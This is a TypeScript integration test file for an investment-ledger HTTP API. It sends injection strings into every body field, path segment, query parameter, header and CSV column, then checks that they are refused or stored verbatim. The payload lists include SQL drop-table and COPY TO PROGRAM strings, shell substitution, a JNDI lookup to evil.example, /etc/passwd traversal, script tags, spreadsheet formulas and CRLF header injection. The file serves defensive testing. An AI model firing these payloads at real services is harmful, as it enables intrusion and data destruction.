import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { z } from 'zod';
import { type Route, ROUTES } from '../../src/delivery/http/routes.js';
import type { Role } from '../../src/delivery/identity/caller.js';
import { proveBooks } from '../../src/proof/laws.js';
import { freshDatabase, type TestDatabase } from '../support/database.js';
import { type ServiceProcess, startServiceProcess } from '../support/process.js';
import { NationalProvider } from '../support/provider.js';
import { CITIZENS_HEADER, COMPANIES_HEADER, NOBODY, receipt } from '../support/samples.js';
import { schemaText } from '../support/schema.js';
import { Wire } from '../support/wire.js';
import { KeyFolder } from '../support/log-keys.js';

/**
 * What means something to a database, a shell, a log, a path, a pointer or a page, in every field of every route: the
 * places come from the schemas of the table of routes. It is refused, or it is text and stays what it is.
 */

/** What reads as text anywhere. */
const TEXTS = [
  `'; drop table journal_entry cascade; --`,
  `' or '1'='1`,
  `") or 1=1 --`,
  `'); select door.forget(); --`,
  `$1 $$ $body$`,
  `\\'; copy run to program 'id'; --`,
  `%`,
  `_%`,
  `/~0~1/-/0`,
  `#/components/schemas/Problem`,
  `__proto__`,
  `constructor`,
  `../../../../etc/passwd`,
  `..%2f..%2f%00`,
  `\${jndi:ldap://evil.example/a}`,
  `{{7*7}}<%= 7*7 %>`,
  `%s%n%x`,
  `<script>alert(1)</script>`,
  `=cmd|' /C calc'!A0`,
  `$(touch /tmp/in) \`id\``,
  `"level":60,"msg":"forged"}`,
  `\u202Egpj.exe`,
  `日本語 ‘’ 🏦`,
  `a\u2028b`,
];
/** What no text of ours may hold. */
const BROKEN = [
  'a\r\nX-Injected: 1\r\n\r\n',
  'a\n{"level":60,"msg":"forged"}',
  '\u001b[2J\u001b[31m',
  'a\u0000b',
  'a\u0085b',
];
/** Each place is asked some of them, all of them are asked all over. */
const EACH_TIME = 3;
const turns = new Map<readonly string[], number>();
function next(texts: readonly string[]): string[] {
  const turn = turns.get(texts) ?? 0;
  turns.set(texts, turn + EACH_TIME);
  return Array.from({ length: EACH_TIME }, (_, no) => texts[(turn + no) % texts.length]!);
}
/** Some of what breaks a text, and of what reads as text. */
const strings = () => [...next(TEXTS), ...next(BROKEN)];
/** What can stand in a header at all. */
const HEADER_TEXTS = TEXTS.filter((text) => /^[\x20-\x7e]+$/.test(text));

const AT_ONCE = 8; // Fewer than the files that may come at once.
/** An answer that never comes is a failure too. */
const ANSWER_MS = 60_000;
const POLL_MS = 50;
const POLLS_MAX = 600;

let database: TestDatabase;
let provider: NationalProvider;
let service: ServiceProcess;
let dataDir: string;
const keys = new KeyFolder();
let schemaBefore: string;
beforeAll(async () => {
  database = await freshDatabase();
  provider = await NationalProvider.start();
  dataDir = mkdtempSync(path.join(tmpdir(), 'investment-injection-'));
  service = await startServiceProcess({
    ...provider.environment,
    NODE_ENV: 'production',
    LOG_LEVEL: 'info',
    DATABASE_URL: database.url,
    DATA_DIR: dataDir,
    MASTER_KEY: '0f'.repeat(32),
    LOG_KEY_FILE: keys.make().file,
    // Whoever sends all of this at once is not held up for it.
    RATE_LIMIT: '1000000',
    RATE_LIMIT_PER_ADDRESS: '1000000',
    RATE_LIMIT_FAILED_SIGN_INS: '1000000',
  });
  schemaBefore = await schemaText(database.owner);
  await given('clerk', '/v1/incorporations', exampleOf('POST /v1/incorporations'));
  await given('manager', '/v1/cash-receipts', receipt('1000000.00'));
});
afterAll(async () => {
  await (service as ServiceProcess | undefined)?.stop(); // One that did not start leaves nothing behind.
  await provider.stop();
  await database.drop();
  rmSync(dataDir, { recursive: true, force: true });
  keys.remove();
});

interface Told {
  readonly status: number;
  readonly headers: Headers;
  readonly text: string;
  // oxlint-disable-next-line typescript/no-explicit-any
  readonly json: any;
}

const tokens = new Map<string, Promise<string>>();
function tokenOf(role: Role, employee: string): Promise<string> {
  const name = `${role} ${employee}`;
  const claims = { employee, national_id: 'DEMO-1', realm_access: { roles: [role] } };
  const token = tokens.get(name) ?? provider.token(employee, claims);
  tokens.set(name, token);
  return token;
}

interface Sent {
  readonly as?: Role;
  readonly person?: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly type?: string;
  readonly body?: unknown;
}

let asked = 0;
async function send(method: string, at: string, sent: Sent): Promise<Told> {
  const { as = 'manager', person = 'pam', headers, type, body } = sent;
  const answer = await fetch(service.address + at, {
    method,
    signal: AbortSignal.timeout(ANSWER_MS),
    headers: {
      authorization: `Bearer ${await tokenOf(as, person)}`,
      'idempotency-key': `injection-${++asked}`,
      ...(body === undefined ? {} : { 'content-type': type ?? 'application/json' }),
      ...headers,
    },
    ...(body === undefined ? {} : { body: type ? (body as string) : JSON.stringify(body) }),
  });
  const text = await answer.text();
  const isJson = /[/+]json$/.test(answer.headers.get('content-type')?.split(';')[0] ?? '');
  return {
    status: answer.status,
    headers: answer.headers,
    text,
    json: isJson ? JSON.parse(text) : undefined,
  };
}

async function given(as: Role, at: string, body: unknown, person = 'ann'): Promise<Told['json']> {
  const { status, json } = await send('POST', at, { as, person, body });
  if (status >= 300) throw new Error(JSON.stringify(json));
  return json;
}

/** A run or import, once it is worked at no longer. */
async function rested(as: Role, at: string): Promise<Told['json']> {
  for (let polls = 0; polls < POLLS_MAX; polls++) {
    const { json } = await send('GET', at, { as });
    if (!['receiving', 'running', 'computing'].includes(json.state)) return json;
    await sleep(POLL_MS);
  }
  throw new Error(`${at} does not come to rest`);
}

/** Does all of it, some at once. */
async function all<T>(cases: readonly T[], work: (one: T) => Promise<void>): Promise<void> {
  const left = [...cases];
  const hand = async () => {
    for (let one = left.shift(); one !== undefined; one = left.shift()) await work(one);
  };
  await Promise.all(Array.from({ length: AT_ONCE }, hand));
}

/** Whatever was sent, this is no failure of ours, and nothing of it has become a header. */
function expectNoHarm(told: Told, sent: unknown): void {
  if (told.status >= 500 || told.headers.has('x-injected'))
    throw new Error(`${JSON.stringify(sent)} is answered with ${told.status} ${told.text}`);
  if (told.status >= 400)
    expect(told.headers.get('content-type')).toMatch(/^application\/problem\+json/);
}
function expectRefused(told: Told, sent: unknown): void {
  expectNoHarm(told, sent);
  if (told.status < 400) throw new Error(`${JSON.stringify(sent)} is taken: ${told.text}`);
}

const routes = Object.entries(ROUTES);
const callerOf = ({ roles }: Route): Role =>
  roles === 'open' || roles === 'everyone' ? 'manager' : roles[0]!;
const methodOf = (route: string): string => route.split(' ')[0]!;
const addressOf = (route: string): string =>
  route
    .split(' ')[1]!
    .replace(':name', 'assets:cash')
    .replace(':year', '2024')
    .replace(/:\w+/, NOBODY);
const exampleOf = (route: string) =>
  (ROUTES[route]!.body!.meta()!['examples'] as Record<string, unknown>[])[0]!;

interface Schema {
  readonly $ref?: string;
  readonly $defs?: Readonly<Record<string, Schema>>;
  readonly properties?: Readonly<Record<string, Schema>>;
  readonly items?: Schema;
  readonly anyOf?: readonly Schema[];
  readonly oneOf?: readonly Schema[];
}

const written = (schema: z.ZodType): Schema =>
  z.toJSONSchema(schema, { io: 'input', unrepresentable: 'any' }) as Schema;

/** Every place of a body that holds a single value, by pointer. */
function placesOf(schema: Schema, defs = schema.$defs ?? {}, at = ''): string[] {
  if (schema.$ref) return placesOf(defs[schema.$ref.split('/').at(-1)!]!, defs, at);
  const choices = schema.anyOf ?? schema.oneOf;
  if (choices) return [...new Set(choices.flatMap((one) => placesOf(one, defs, at)))];
  if (schema.items) return placesOf(schema.items, defs, `${at}/0`);
  if (!schema.properties) return [at];
  return Object.entries(schema.properties).flatMap(([name, one]) =>
    placesOf(one, defs, `${at}/${name}`),
  );
}

/** `body` with a value in a place that need not have been there. */
function put(body: object, pointer: string, value: unknown): object {
  const copy = structuredClone(body);
  const parts = pointer.split('/').slice(1);
  let holder = copy as Record<string, unknown>;
  parts.slice(0, -1).forEach((part, no) => {
    holder[part] ??= parts[no + 1] === '0' ? [] : {};
    holder = holder[part] as Record<string, unknown>;
  });
  holder[parts.at(-1)!] = value;
  return copy;
}

let made = 0;
const dayNo = (no: number) => new Date(Date.UTC(2000, 0, no)).toISOString().slice(0, 10);
const company = () => ({
  ...exampleOf('POST /v1/incorporations'),
  registrationNumber: `INJECTED-${++made}`,
});
/** Where a text can come to rest only in something new: makes that. */
const FRESH: Readonly<Record<string, () => Promise<{ at?: string; base?: object }>>> = {
  'POST /v1/incorporations': async () => ({ base: company() }),
  'POST /v1/incorporations/:id/annulment': async () => ({
    at: `/v1/incorporations/${(await given('clerk', '/v1/incorporations', company())).id}/annulment`,
  }),
  'POST /v1/incorporations/:id/corrections': async () => ({
    at: `/v1/incorporations/${(await given('clerk', '/v1/incorporations', company())).id}/corrections`,
  }),
  'POST /v1/cash-receipts/:id/reversal': async () => ({
    at: `/v1/cash-receipts/${(await given('manager', '/v1/cash-receipts', receipt('0.01'))).id}/reversal`,
  }),
  'POST /v1/valuation-runs': async () => ({ base: { asOf: dayNo(++made) } }),
  'POST /v1/valuation-runs/:id/rejection': async () => {
    const { id } = await given('manager', '/v1/valuation-runs', { asOf: dayNo(++made) });
    const at = `/v1/valuation-runs/${id}`;
    await rested('manager', at);
    return { at: `${at}/rejection` };
  },
};

/** What was taken, tagged so that it can be found again: it must stand somewhere, to the letter. */
const taken: string[] = [];
let tags = 0;
const tagged = (text: string): string => `${text}§${++tags}`;

const withBody = routes.filter(([, { body }]) => body !== undefined);

describe('in a body', () => {
  const cases = withBody.flatMap(([route, line]) =>
    placesOf(written(line.body!)).map((place) => [route, place, line] as const),
  );

  test.each(cases)('of %s at %s', async (route, place, line) => {
    await all(strings(), async (string) => {
      const { at = addressOf(route), base = exampleOf(route) } = (await FRESH[route]?.()) ?? {};
      const text = tagged(string);
      const told = await send(methodOf(route), at, {
        as: callerOf(line),
        body: put(base, place, text),
      });
      expectNoHarm(told, text);
      if (told.status >= 400) return;
      if (BROKEN.includes(string)) throw new Error(`${JSON.stringify(text)} was taken`);
      taken.push(text);
      const echoed: unknown = told.json?.[place.slice(1)];
      if (typeof echoed === 'string') expect(echoed).toBe(text);
    });
  });

  test.each(withBody)('of %s as the name of a field', async (route, line) => {
    await all(strings(), async (string) => {
      const told = await send(methodOf(route), addressOf(route), {
        as: callerOf(line),
        type: 'application/json',
        body: `{${JSON.stringify(string)}:1}`,
      });
      expectRefused(told, string);
      const pointer = `/${string.replaceAll('~', '~0').replaceAll('/', '~1')}`;
      expect(told.json.errors.map((error: { pointer: string }) => error.pointer)).toContain(
        pointer,
      );
    });
  });

  test('there are places where text is taken: it is not for nothing', () => {
    // Names, forms, reasons, narratives, sources, in seven routes.
    expect(taken.length).toBeGreaterThanOrEqual(7 * EACH_TIME);
  });
});

describe('in an address', () => {
  const withPlace = routes.filter(([route]) => route.includes('/:'));
  test.each(withPlace)('%s', async (route, line) => {
    await all(strings(), async (string) => {
      const at = route.split(' ')[1]!.replace(/:\w+/, encodeURIComponent(string));
      const body = line.body && exampleOf(route);
      const told = await send(methodOf(route), at, { as: callerOf(line), body });
      // A benchmark may have any name of small letters.
      if (route.includes('/benchmarks/') && /^[a-z]+$/.test(string)) expectNoHarm(told, at);
      else expectRefused(told, at);
    });
  });

  test('as a path that climbs', async () => {
    for (const climbing of [
      '/v1/../../etc/passwd',
      '/assets/../../../package.json',
      '/assets/..%2f..%2f..%2fpackage.json',
      '/docs/%2e%2e/%2e%2e/package.json',
      '//evil.example/v1/nav',
      '/v1/nav;/../../metrics',
      'http://evil.example/v1/nav',
      '/v1/nav%0d%0aX-Injected:%201',
    ]) {
      const wire = await Wire.open(service.address);
      const authorization = `Bearer ${await tokenOf('manager', 'pam')}`;
      wire.head(`GET ${climbing}`, { authorization, connection: 'close' });
      const { status, headers, text } = await wire.answer();
      expect({ climbing, status: Math.floor(status / 100) }).not.toEqual({ climbing, status: 5 });
      expect(headers.has('x-injected')).toBe(false);
      expect(text).not.toMatch(/root:|universal-investment-ledger"/);
    }
  });
});

describe('in a query', () => {
  const parameters = routes.flatMap(([route, line]) =>
    Object.keys(line.query ? (written(line.query).properties ?? {}) : {}).map(
      (name) => [route, name, line] as const,
    ),
  );
  test.each(parameters)('of %s as %s', async (route, name, line) => {
    await all(strings(), async (string) => {
      const at = `${addressOf(route)}?${name}=${encodeURIComponent(string)}`;
      const told = await send('GET', at, { as: callerOf(line) });
      expectNoHarm(told, at);
      if (told.status >= 400) return;
      // Where such a text can be asked for, what is so called is found, and nothing else.
      for (const found of told.json.items)
        expect(found[name].toLowerCase().startsWith(string.toLowerCase())).toBe(true);
    });
  });

  test.each(routes.filter(([, { query }]) => query))('of %s as a name', async (route, line) => {
    await all(strings(), async (string) => {
      const at = `${addressOf(route)}?${encodeURIComponent(string)}=1`;
      expectRefused(await send('GET', at, { as: callerOf(line) }), at);
    });
  });
});

describe('in a header', () => {
  const OTHERS = [
    'accept accept-language cookie from origin referer traceparent user-agent x-forwarded-for',
    'x-forwarded-host x-forwarded-proto x-http-method-override x-original-url x-request-id',
  ]
    .join(' ')
    .split(' ');

  test.each(routes)('of %s', async (route, line) => {
    const method = methodOf(route);
    const body = method === 'GET' ? undefined : {};
    const ask = (headers: Record<string, string>, of: Sent = {}) =>
      send(method, addressOf(route), { as: callerOf(line), body, headers, ...of });
    const plain = await ask({});
    await all(next(HEADER_TEXTS), async (text) => {
      const told = await ask({
        'idempotency-key': tagged(text).replace('§', '#'),
        ...Object.fromEntries(OTHERS.map((name) => [name, text])),
      });
      expectNoHarm(told, text);
      expect(told.status).toBe(plain.status);
      for (const [, value] of told.headers) expect(value).not.toContain(text);
      const stranger = await ask({ authorization: `Bearer ${text}` });
      expect(stranger.status).toBe(line.roles === 'open' ? plain.status : 401);
      if (method !== 'GET') expectNoHarm(await ask({}, { body: '{}', type: text }), text);
    });
  });

  test('as a key that is kept: the same key finds the same answer, another does not', async () => {
    await all(HEADER_TEXTS, async (text) => {
      const body = company();
      const ask = (key: string) =>
        send('POST', '/v1/incorporations', {
          as: 'clerk',
          body,
          headers: { 'idempotency-key': key },
        });
      const first = await ask(text);
      expect(first.status).toBe(201);
      const again = await ask(text);
      expect(again.headers.get('idempotency-replayed')).toBe('true');
      expect(again.text).toBe(first.text);
      expect((await ask(`${text}x`)).status).toBe(409);
    });
  });
});

describe('in a file', () => {
  const quoted = (field: string) => `"${field.replaceAll('"', '""')}"`;
  const FILES = [
    [
      '/v1/incorporation-imports',
      'clerk',
      COMPANIES_HEADER,
      'NO,Ltd,2024-01-20,COMMON,100,0.1,USD',
    ],
    ['/v1/citizens', 'operator', CITIZENS_HEADER, 'NO,Ada,1980-01-01,2000-01-01,,,'],
  ] as const;

  test.each(FILES)('to %s, in every column', async (at, as, header, sample) => {
    const columns = header.split(',');
    const rows = columns.flatMap((_, column) =>
      [...TEXTS, ...BROKEN].map((string) => {
        const fields = sample.split(',');
        fields[0] = `FILE-${++made}`;
        fields[column] = tagged(string);
        return fields;
      }),
    );
    const body = [header, ...rows.map((fields) => fields.map(quoted).join(','))].join('\n');
    const sent = await send('POST', at, { as, type: 'text/csv', body });
    expect(sent.status).toBe(202);
    const location = sent.headers.get('location')!;
    const found = await rested(as, location);
    expect(found).toMatchObject({ state: 'completed', duplicates: 0 });
    expect(found.accepted + found.rejected).toBe(rows.length);

    const { text } = await send('GET', `${location}/rejections`, { as });
    const rejected = text
      .split('\n')
      .filter((line) => line !== '')
      .map((line) => JSON.parse(line));
    expect(rejected).toHaveLength(found.rejected);
    const sentBack = new Set(
      rejected.flatMap(({ row }) => [row].flat().map((one) => JSON.stringify(one))),
    );
    const isSentBack = (value: string) =>
      [...sentBack].some((row) => row.includes(JSON.stringify(value).slice(1, -1)));
    for (const fields of rows) {
      // A file may have line ends of several kinds, and they are read as one.
      const planted = fields.find((field) => field.includes('§'))!.replace(/\r\n?/g, '\n');
      if (isSentBack(planted)) continue;
      if (as === 'clerk') taken.push(planted);
      else if (fields[0] === planted)
        // A national id.
        expect(
          await send('POST', '/v1/citizens/lookup', {
            as: 'caseworker',
            body: { nationalId: planted },
          }),
        ).toMatchObject({ status: 200 });
    }
  });
});

describe('when all that has been sent', () => {
  test('what was taken stands on record to the letter', async () => {
    const standing = new Set<string>();
    const { rows: columns } = await database.owner.query<{ table: string; column: string }>(`
      select format('%I', table_name) as table, format('%I', column_name) as column
        from information_schema.columns
       where table_schema = 'public' and data_type in ('text', 'json', 'jsonb')
         and table_name not like 'idempotency%' and table_name not like '%upload%'`);
    for (const { table, column } of columns) {
      const { rows } = await database.owner.query<{ value: unknown }>(
        `select distinct to_jsonb(${column}) as value from ${table} where ${column} is not null`,
      );
      const walk = (value: unknown): void => {
        if (typeof value === 'string') standing.add(value);
        else if (typeof value === 'object' && value !== null) Object.values(value).forEach(walk);
      };
      rows.forEach(({ value }) => walk(value));
    }

    expect(taken.filter((text) => !standing.has(text))).toEqual([]);
  });

  test('the tables are as they were, the books are sound, and the service is well', async () => {
    expect(await schemaText(database.owner)).toBe(schemaBefore);
    const proofs = await proveBooks(database.service);
    expect(proofs.filter(({ offender }) => offender !== null)).toEqual([]);
    expect(await send('GET', '/health/ready', {})).toMatchObject({ status: 200 });
  });

  test('the log is one JSON object a line, none of them forged', async () => {
    const { lines } = service;
    expect(lines.length).toBeGreaterThan(1_000);
    for (const line of lines) {
      const entry = JSON.parse(line) as { level: number; time: number; msg?: string };
      expect([typeof entry.level, typeof entry.time]).toEqual(['number', 'number']);
      expect(entry.msg).not.toBe('forged');
      expect(entry.level).toBeLessThan(50);
    }
  });
});
